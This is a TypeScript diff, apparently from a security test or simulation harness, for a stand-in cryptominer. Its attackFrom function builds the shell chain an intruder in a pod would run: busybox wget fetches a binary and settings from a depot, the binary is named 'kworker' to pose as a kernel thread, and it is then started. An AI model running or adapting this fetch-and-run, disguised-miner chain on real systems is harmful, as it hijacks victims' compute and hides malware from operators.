@@ -22,14 +22,13 @@ export function compileStandIn(): string {
 /** What the stand-in reads: where its pool is, and for whom it mines. */
 export const settingsFor = (address: string, port: number): string => `${address} ${port} ${WALLET}\n`;
 
-/** What someone who got into a pod runs there: fetch, name it like a kernel thread, start it. */
-export function attackFrom(depot: string, folder: string): string[] {
-  const script = [
+/** What someone who got into a pod types there: fetch, name it like a kernel thread, start it. */
+export function attackFrom(depot: string, folder: string): string {
+  return [
     `cd ${folder}`,
     `busybox wget -q -O kworker ${depot}/update`,
     `busybox wget -q -O settings ${depot}/settings`,
     'chmod +x kworker',
     './kworker -c settings',
-  ];
-  return ['sh', '-c', script.join(' && ')];
+  ].join(' && ');
 }
